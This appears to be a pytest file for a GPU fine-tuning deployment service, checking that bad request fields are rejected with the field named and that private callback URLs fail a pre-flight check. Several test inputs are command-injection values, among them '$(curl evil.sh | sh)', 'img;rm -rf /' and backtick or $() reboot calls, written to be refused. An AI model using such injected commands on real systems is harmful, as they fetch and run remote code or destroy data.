"""A deployment request's own checks (INVALID_ARGUMENT naming the field) and the callback-URL
pre-flight check that would have caught the old platform's http://localhost:3000."""

from __future__ import annotations

import contextlib
import io
import shlex
from pathlib import Path
from typing import Any, cast

import grpc
import pytest

from services.common.errors import ServiceError
from services.deploy.checks import Status
from services.deploy.launch import pod_config
from services.deploy.pod import render, report
from services.deploy.preflight import Preflight, _gpu_check, _unreachable_from_outside
from services.deploy.providers.base import GpuType
from services.deploy.spec import parse
from tunelab.deploy.v1 import deploy_service_pb2 as api
from tunelab.deploy.v1 import deployments_pb2 as pb
from tunelab_trainer.common import TINY_DEFAULTS, TRL_DEFAULTS, load_config


def spec(**changes: object) -> api.DeploymentSpec:
    message = api.DeploymentSpec(
        provider="runpod",
        dataset_id="ds_x",
        method=pb.TRAINING_METHOD_DPO,
        base_model="Qwen/Qwen2.5-0.5B-Instruct",
        gpu=pb.GpuSpec(type="NVIDIA RTX A4000"),
        limits=pb.Limits(max_runtime_minutes=60, max_cost_usd=5),
    )
    for path, value in changes.items():
        target: object = message
        *parents, name = path.split("__")
        for parent in parents:
            target = getattr(target, parent)
        setattr(target, name, value)
    return message


def offline(public_url: str) -> Preflight:
    """A pre-flight for the checks that ask neither the datasets service nor a provider."""
    return Preflight(
        cast(Any, None), cast(Any, None), public_url=public_url, max_cost_per_run_usd=100
    )


def test_defaults_are_applied() -> None:
    parsed = parse(spec(), default_image="img:1")
    assert parsed.hyperparameters.epochs == 1
    assert parsed.gpu.count == 1
    assert parsed.gpu.cloud == "secure"
    assert parsed.heartbeat_timeout_minutes == 10
    assert parsed.image == "img:1"
    local = parse(spec(provider="local", base_model="", gpu__type=""), default_image="img:1")
    assert local.base_model == "tiny"
    assert local.hyperparameters.learning_rate == pytest.approx(1e-3)


@pytest.mark.parametrize(
    ("changes", "field"),
    [
        ({"provider": "aws"}, "deployment.provider"),
        ({"dataset_id": ""}, "deployment.dataset_id"),
        ({"method": pb.TRAINING_METHOD_UNSPECIFIED}, "deployment.method"),
        ({"base_model": "$(curl evil.sh | sh)"}, "deployment.base_model"),
        ({"base_model": "a'b"}, "deployment.base_model"),
        ({"hyperparameters__epochs": -1}, "deployment.hyperparameters.epochs"),
        (
            {"hyperparameters__learning_rate": float("nan")},
            "deployment.hyperparameters.learning_rate",
        ),
        ({"hyperparameters__learning_rate": -0.1}, "deployment.hyperparameters.learning_rate"),
        ({"hyperparameters__batch_size": 100000}, "deployment.hyperparameters.batch_size"),
        ({"hyperparameters__warmup_ratio": 0.9}, "deployment.hyperparameters.warmup_ratio"),
        ({"gpu__type": ""}, "deployment.gpu.type"),
        ({"gpu__type": "A100`reboot`"}, "deployment.gpu.type"),
        ({"gpu__count": 9}, "deployment.gpu.count"),
        ({"gpu__bid_per_gpu_usd": 1.0}, "deployment.gpu.bid_per_gpu_usd"),
        ({"limits__max_runtime_minutes": 0}, "deployment.limits.max_runtime_minutes"),
        ({"limits__max_cost_usd": float("inf")}, "deployment.limits.max_cost_usd"),
        ({"limits__max_cost_usd": -1.0}, "deployment.limits.max_cost_usd"),
        ({"limits__heartbeat_timeout_minutes": 500}, "deployment.limits.heartbeat_timeout_minutes"),
        ({"limits__heartbeat_timeout_minutes": 2}, "deployment.limits.heartbeat_timeout_minutes"),
        ({"image": "img;rm -rf /"}, "deployment.image"),
    ],
)
def test_bad_values_name_their_field(changes: dict[str, object], field: str) -> None:
    with pytest.raises(ServiceError) as caught:
        parse(spec(**changes), default_image="img:1")
    assert caught.value.code == grpc.StatusCode.INVALID_ARGUMENT
    assert caught.value.metadata["field"] == field


@pytest.mark.parametrize("provider", ["local", "runpod"])
@pytest.mark.parametrize(
    "given",
    [
        pb.Hyperparameters(),
        pb.Hyperparameters(
            epochs=3,
            learning_rate=5e-5,
            batch_size=4,
            max_steps=100,
            seed=7,
            max_seq_length=256,
            lora_r=8,
            beta=0.25,
            warmup_ratio=0.1,
        ),
    ],
    ids=["defaults", "every-field"],
)
def test_hyperparameters_reach_the_trainer_as_the_service_checked_them(
    tmp_path: Path, provider: str, given: pb.Hyperparameters
) -> None:
    local = {"base_model": "", "gpu__type": ""} if provider == "local" else {}
    message = spec(provider=provider, **local)
    message.hyperparameters.CopyFrom(given)
    parsed = parse(message, default_image="img:1")
    script = render.render(
        render.Bootstrap(
            deployment_id="dep_x",
            api_url="https://tunelab.example",
            dataset_sha256="0" * 64,
            dataset_size=1,
            config=pod_config("dep_x", parsed),
            trainer=render.trainer("tiny"),
        )
    )
    # The pod's path: the script's CONFIG_JSON, completed by report.py into config.json.
    line = next(ln for ln in script.splitlines() if ln.startswith("readonly CONFIG_JSON="))
    (config_json,) = shlex.split(line.removeprefix("readonly CONFIG_JSON="))
    printed = io.StringIO()
    with contextlib.redirect_stdout(printed):
        report.config(config_json, str(tmp_path / "data.jsonl"), str(tmp_path / "out"))
    (tmp_path / "config.json").write_text(printed.getvalue())
    defaults = TINY_DEFAULTS if provider == "local" else TRL_DEFAULTS
    loaded = load_config(
        str(tmp_path / "config.json"), defaults=defaults, check_base_model=lambda _: None
    )
    assert loaded.hyperparameters == parsed.hyperparameters
    if not given.ListFields():
        assert parsed.hyperparameters == defaults


@pytest.mark.parametrize("count", [-1, 9, 16])
def test_a_gpu_count_out_of_range_says_what_is_accepted(count: int) -> None:
    with pytest.raises(ServiceError) as caught:
        parse(spec(gpu__count=count), default_image="img:1")
    assert caught.value.metadata["field"] == "deployment.gpu.count"
    assert caught.value.message == (
        f"gpu.count must be a whole number from 1 to 8 (0 or unset means 1); got {count}"
    )


@pytest.mark.parametrize(("count", "rented"), [(0, 1), (1, 1), (3, 3), (8, 8)])
def test_every_gpu_count_the_message_names_is_accepted(count: int, rented: int) -> None:
    assert parse(spec(gpu__count=count), default_image="img:1").gpu.count == rented


def test_the_same_request_has_the_same_digest_and_another_does_not() -> None:
    first = parse(spec(), default_image="img")
    assert first.digest() == parse(spec(), default_image="img").digest()
    assert first.digest() != parse(spec(limits__max_cost_usd=6.0), default_image="img").digest()


@pytest.mark.parametrize(
    "url",
    [
        "http://localhost:3000",
        "http://127.0.0.1:8080",
        "http://10.0.0.5",
        "http://192.168.1.20:8080",
        "http://gateway.local",
        "http://[::1]:8080",
    ],
)
async def test_a_callback_url_pods_cannot_reach_fails_the_preflight(url: str) -> None:
    check = await offline(url)._callback(parse(spec(), default_image="img"))
    assert check.status is Status.FAIL
    assert "TUNELAB_PUBLIC_URL" in check.message


async def test_a_public_address_passes_and_plain_http_warns() -> None:
    assert await _unreachable_from_outside("1.1.1.1") is None
    check = await offline("http://1.1.1.1")._callback(parse(spec(), default_image="img"))
    assert check.status is Status.WARN


def test_a_bad_fallback_type_names_its_place() -> None:
    message = spec()
    message.gpu.fallback_types.extend(["NVIDIA RTX A5000", "$(reboot)"])
    with pytest.raises(ServiceError) as caught:
        parse(message, default_image="img")
    assert caught.value.metadata["field"] == "deployment.gpu.fallback_types[1]"


def test_the_estimate_assumes_the_dearest_type_that_may_be_rented() -> None:
    message = spec()
    message.gpu.count = 2
    message.gpu.fallback_types.extend(["NVIDIA A100 80GB PCIe", "NVIDIA H100 80GB HBM3"])
    catalogue = {
        "NVIDIA RTX A4000": GpuType("NVIDIA RTX A4000", "A4000", 16, secure_usd=0.4),
        "NVIDIA A100 80GB PCIe": GpuType("NVIDIA A100 80GB PCIe", "A100", 80, secure_usd=1.6),
        "NVIDIA H100 80GB HBM3": GpuType("NVIDIA H100 80GB HBM3", "H100", 80),  # none offered
    }
    check, hourly = _gpu_check(parse(message, default_image="img"), catalogue)
    assert check.status is Status.PASS
    assert hourly == pytest.approx(3.2)
    assert "none offered now: NVIDIA H100 80GB HBM3" in check.message
